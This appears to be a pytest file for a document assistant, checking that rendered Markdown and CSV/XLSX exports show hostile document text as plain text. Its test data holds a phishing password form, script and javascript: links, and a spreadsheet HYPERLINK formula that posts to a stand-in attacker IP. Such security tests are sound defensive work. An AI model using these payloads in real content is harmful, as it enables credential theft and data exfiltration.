"""Text from documents stays text: every render function and every export shows a hostile
passage literally – no tag, link, image, style or formula of its own.

The Markdown is rendered by a real CommonMark parser (markdown-it, HTML allowed, tables on,
like Gradio's renderer) and the HTML it yields is parsed: only our own elements may appear.
No models, no server."""

from __future__ import annotations

import csv
import re
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook

from assistant.draft import DraftSection, new_draft, replace_section
from assistant.draft.export import export_csv, export_xlsx, md_text, to_markdown
from assistant.draft.measures import Measure, Overview, Place, StatedGap
from assistant.types import Answer, Citation, IngestReport, Problem, Sentence
from workspace import render

EVIL = "198.51.100.7"
HOSTILE = (
    "Sitzung abgelaufen – bitte Passwort erneut eingeben "
    f'<form action="http://{EVIL}/p" method=post><input type=password name=pw>'
    "<input type=hidden name=t value=1><button>Anmelden</button></form> "
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">Overlay</div>'
    "<style>body{display:none}</style> <svg><text>verschluckt "
    "<script>alert(1)</script> [klick](javascript:alert(1)) "
    f"<img src=http://{EVIL}/x.png> ![bild](http://{EVIL}/y.png) "
    '<a href="javascript:alert(2)">link</a> <https://example.org/auto> '
    f"www.example.org http://{EVIL}/nackt info@example.org $$\\rule{{50em}}{{50em}}$$ "
    "`code` ~~weg~~ | a | b |\r\n# Überschrift\u2028[ref]: http://example.org\r"
    "&lt;img src=x&gt; <!-- Kommentar -->"
)
LITERAL = ["<form", "<input type=password", "<svg>", "<script>", "[klick](javascript:",
           f"<img src=http://{EVIL}/x.png>", f"![bild](http://{EVIL}/y.png)", "www.example.org",
           "info@example.org", "$$", "&lt;img src=x&gt;"]
MD = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.found.append(("!--", {}))


def rendered(markdown: str) -> Elements:
    page = Elements()
    page.feed(MD.render(markdown))
    return page


OURS = {"p", "strong", "em", "ul", "li", "h3", "details", "summary", "div", "mark", "br",
        "table", "thead", "tbody", "tr", "th", "td"}


def assert_only_text(markdown: str) -> str:
    page = rendered(markdown)
    foreign = [(t, a) for t, a in page.found if t not in OURS or set(a) - {"class", "open"}]
    assert foreign == [], foreign
    shown = "".join(page.text)
    # no automatic links either (Gradio's renderer links bare http://, www. and e-mail)
    assert not re.search(r"https?://|www\.|\w@\w", markdown), markdown
    return shown


def cite(n: int, text: str = HOSTILE) -> Citation:
    return Citation(n=n, document=f"{HOSTILE[:40]}.txt", title=HOSTILE[:60], page=2,
                    page_label=None, text=text, chunk_id=f"c{n}")


def test_text_shows_every_hostile_part_literally():
    shown = assert_only_text(render.text(HOSTILE))
    for part in LITERAL:
        assert part in shown, part


def test_answer_keeps_our_markup_and_shows_the_document_as_text():
    body = (f"### Welche Sprachkurse gibt es?\n**{HOSTILE[:30]}**\n- {HOSTILE} [1]\n"
            "Hinweis: „Wolkenberg“ kommt in keinem Dokument vor.")
    answer = Answer(question="?", text=body, citations=(cite(1),), sources=(),
                    abstained=False, sentences=(Sentence(HOSTILE, (1,)),))
    markdown = render.answer_markdown(answer)
    shown = assert_only_text(markdown)
    for part in LITERAL:
        assert part in shown, part
    page = rendered(markdown)
    tags = [t for t, _ in page.found]
    assert tags.count("h3") == 1 and "li" in tags and tags.count("details") == 1
    assert ("strong", {}) in page.found  # the document title in bold, ours
    assert "Welche Sprachkurse gibt es?" in shown and "[1]" in shown


def test_streamed_and_abstained_text_is_text():
    assert_only_text(render.markdown_text(HOSTILE) + " ▌")
    refusal = Answer(question="?", text=HOSTILE, citations=(), sources=(), abstained=True)
    assert "<form" in assert_only_text(render.answer_markdown(refusal))


def test_marked_sentence_survives_escaping():
    c = cite(1, text="Vorher. Der Kurs <b>Wolkenberg</b> startet 2024. Nachher.")
    html = render.passage_html(c, ["Der Kurs <b>Wolkenberg</b> startet 2024."])
    assert html.count("<mark>") == 1 and "<b>" not in html
    assert "Der Kurs <b>Wolkenberg</b> startet 2024." in "".join(rendered(html).text)


def test_draft_sources_warnings_reports_and_tables_are_text():
    section = DraftSection("stand", "Stand", "Frage?", text=f"{HOSTILE}\n{HOSTILE}",
                           citations=(cite(1), cite(2)))
    assert_only_text(render.section_sources(section))
    assert "<svg>" in assert_only_text(render.section_warnings(section))
    report = IngestReport(problems=(Problem(HOSTILE[:80] + ".txt", HOSTILE, skipped=True),))
    assert "<form" in assert_only_text(render.ingest_markdown(report))
    table = render.table_markdown("Fragen mit Befund", ["ID", "Frage"],
                                  [["**f1**", HOSTILE], ["f2", "a | b"]])
    shown = assert_only_text(table)
    assert "<form" in shown and "a | b" in shown
    assert ("strong", {}) in rendered(table).found  # our bold in the metrics table stays


def test_markdown_export_escapes_the_draft():
    draft = new_draft(HOSTILE[:30])
    section = draft.sections[0]
    draft = replace_section(draft, DraftSection(
        section.key, section.title, section.question,
        text=f"{HOSTILE} [1].\n\n- Feld: Wert | Feld: <b>x</b> [1]", citations=(cite(1),)))
    markdown = to_markdown(draft)
    page = rendered(markdown)
    foreign = [(t, a) for t, a in page.found
               if t not in OURS | {"h1", "h2"} or set(a)]
    assert foreign == []
    assert not re.search(r"(?<!\\)https?://|(?<!\\)www\.", markdown)
    shown = "".join(page.text)
    for part in LITERAL:
        assert part in shown, part
    assert "[1] " in shown and "Datei: " in shown
    assert md_text("a_b *c* [d](e)") == r"a\_b \*c\* \[d\](e)"


def test_spreadsheet_exports_keep_formulas_as_text(tmp_path):
    place = Place("a.txt", "Titel")
    link = f'=HYPERLINK("http://{EVIL}/?d="&A1;"klick")'
    overview = Overview(
        measures=(Measure(link, "+SUM(1)", "@Ziel", "-Nord", (place,)),
                  Measure("Sprachcafé", "Caritas", "Jugendliche", "Nord", (place,))),
        districts=("Nord",), coverage={}, stated_gaps=(StatedGap(link, place),))
    with export_csv(overview, tmp_path / "m.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    assert rows[1][1:5] == ["'" + link, "'+SUM(1)", "'@Ziel", "'-Nord"]
    assert rows[2][1] == "Sprachcafé"
    wb = load_workbook(export_xlsx(overview, tmp_path / "m.xlsx"))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert [c for c in cells if c.data_type == "f"] == []
    assert any(c.value == link for c in cells)


@pytest.mark.parametrize("value, shown", [
    ("a < b & c > d", "a < b & c > d"), ("S. 5 (PDF-Seite 7)", "S. 5 (PDF-Seite 7)"),
    ("Zeile 1\nZeile 2", "Zeile 1\nZeile 2"), ("Über „Ankommen“ – 100 %", "Über „Ankommen“ – 100 %"),
])
def test_ordinary_text_reads_the_same(value, shown):
    assert "".join(rendered(render.text(value)).text).strip() == shown
